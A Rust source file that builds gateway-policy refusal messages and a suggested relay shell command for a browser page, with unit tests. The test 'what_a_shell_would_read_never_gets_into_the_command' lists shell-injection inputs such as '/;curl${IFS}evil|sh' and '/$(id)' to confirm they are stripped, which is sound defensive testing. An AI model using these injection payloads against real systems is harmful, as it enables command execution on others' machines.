//! The policy of the page's server, which names the gateways that the page may
//! connect to.

use clawline_core::GatewayId;

use super::address::{Address, Fix};
use super::words::Words;

/// What to say when the page may not connect to an address.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// What is so, and what to do.
    pub message: Words,
    /// An address that can be used instead.
    pub fix: Option<Fix>,
    /// The command that would allow the address.
    pub command: Option<String>,
}

impl Refusal {
    /// `known` are the gateways that the page's server was started with.
    #[must_use]
    pub fn of(address: &Address, known: Option<&str>) -> Self {
        let origin = address.origin();
        // A policy can name no IPv6 address: starting the relay with it would
        // not help.
        if origin.contains('[') {
            return Self::unnamed(address);
        }
        let command = relay_command(address);
        let also = known.filter(|known| !known.is_empty());
        let also = also.map(|known| Words::of("policy-started-with").with("gateways", known));
        let how = match command {
            Some(_) => Words::of("policy-by-command"),
            None => Words::of("policy-by-option").with("option", "--gateway"),
        };
        let what = Words::of("policy-not-there").with("gateway", origin);
        Self {
            message: Words::All([what].into_iter().chain(also).chain([how]).collect()),
            fix: None,
            command,
        }
    }

    fn unnamed(address: &Address) -> Self {
        let (before, rest) = address.url().split_once('[').unwrap_or_default();
        let (_, after) = rest.split_once(']').unwrap_or_default();
        let fix = address.is_loopback().then(|| Fix {
            address: format!("{before}localhost{after}"),
            token: None,
        });
        let how = match fix {
            Some(_) => Words::of("policy-use-name"),
            None => Words::of("policy-give-name"),
        };
        Self {
            message: Words::All(vec![Words::of("policy-ipv6"), how]),
            fix,
            command: None,
        }
    }
}

/// The command that starts a relay whose page may connect to the address.
///
/// The address may come from a link, and the command ends in a shell: only
/// what no shell reads as more than a word is made into one. A path with other
/// letters is left out (the policy is about the origin), and for a host with
/// them there is no command.
fn relay_command(address: &Address) -> Option<String> {
    let origin = address.origin();
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '/');
    let is_safe = |text: &str| text.chars().all(is_plain);
    let path = Some(address.path()).filter(|path| is_safe(path));
    let path = path.unwrap_or_default();
    is_safe(origin).then(|| format!("clawline-relay serve --gateway {origin}{path}"))
}

/// Whether what the browser refused to open (`blockedURI` of its report) is
/// this address. Browsers report it whole or its origin only, with the default
/// port or without, or nothing at all.
#[must_use]
pub fn concerns(address: &Address, blocked: &str) -> bool {
    let Some((scheme, rest)) = blocked.split_once("://") else {
        return true;
    };
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let blocked = GatewayId::parse(&format!("{scheme}://{host}"));
    blocked.is_none_or(|blocked| GatewayId::parse(address.origin()) == Some(blocked))
}

#[cfg(test)]
mod tests {
    use super::super::address;
    use super::super::words::catalogues::english;
    use super::*;

    fn address(text: &str) -> Address {
        address::parse(text, GatewayId::parse)
            .unwrap_or_else(|problem| panic!("{text}: {problem:?}"))
    }

    #[test]
    fn the_command_names_the_gateway() {
        for (typed, named) in [
            ("ws://192.168.1.4:18789", "ws://192.168.1.4:18789"),
            ("wss://gate.example/claw/x-1", "wss://gate.example/claw/x-1"),
            ("wss://gate.example/claw?v=4", "wss://gate.example/claw"),
        ] {
            let command = format!("clawline-relay serve --gateway {named}");
            assert_eq!(relay_command(&address(typed)), Some(command));
        }
    }

    #[test]
    fn an_ipv6_address_needs_a_name_and_the_own_one_has_one() {
        let refusal = Refusal::of(&address("ws://[::1]:18789/claw"), Some("ws://a"));
        let fix = refusal.fix.unwrap();
        assert_eq!(fix.address, "ws://localhost:18789/claw");
        assert!(relay_command(&address(&fix.address)).is_some());
        assert_eq!(refusal.command, None);
        let refusal = Refusal::of(&address("wss://[2001:db8::1]"), None);
        assert!(english(&refusal.message).contains("Give it a name"));
        assert_eq!((refusal.fix, refusal.command), (None, None));
        let refusal = Refusal::of(&address("ws://b:1"), Some("ws://a"));
        assert!(english(&refusal.message).contains("It was started with ws://a."));
        assert!(refusal.command.is_some());
    }

    #[test]
    fn what_a_shell_would_read_never_gets_into_the_command() {
        for path in [
            "/;curl${IFS}evil|sh",
            "/$(id)",
            "/`id`",
            "/&id",
            "/%PATH%",
            "/'x",
            "/a\\b",
            "/~x",
            "/*",
            "/!x",
            "/(x)",
            "?a=1;id",
            "?a=$(id)&b",
        ] {
            let Ok(address) = address::parse(&format!("ws://x:1{path}"), GatewayId::parse) else {
                continue;
            };
            let command = relay_command(&address).expect("the host is plain");
            let word = command.strip_prefix("clawline-relay serve --gateway ");
            assert!(matches!(word, Some("ws://x:1" | "ws://x:1/")), "{command}");
        }
        assert_eq!(relay_command(&address("ws://höst")), None);
        assert_eq!(relay_command(&address("ws://a_b")), None);
    }

    #[test]
    fn a_refusal_is_known_by_its_origin_however_it_is_written() {
        for (typed, blocked) in [
            ("ws://gate.example", "ws://gate.example:80/"),
            ("ws://gate.example:80/x", "ws://gate.example"),
            ("wss://gate.example:443", "wss://gate.example/"),
            ("ws://[::1]:1/x", "ws://[::1]:1"),
            ("ws://gate.example", ""),
            ("ws://gate.example", "ws"),
        ] {
            assert!(concerns(&address(typed), blocked), "{typed} {blocked}");
        }
        for (typed, blocked) in [
            ("ws://a:1", "ws://a:18/"),
            ("ws://a", "ws://a.evil/"),
            ("ws://a", "wss://a/"),
        ] {
            assert!(!concerns(&address(typed), blocked), "{typed} {blocked}");
        }
    }
}
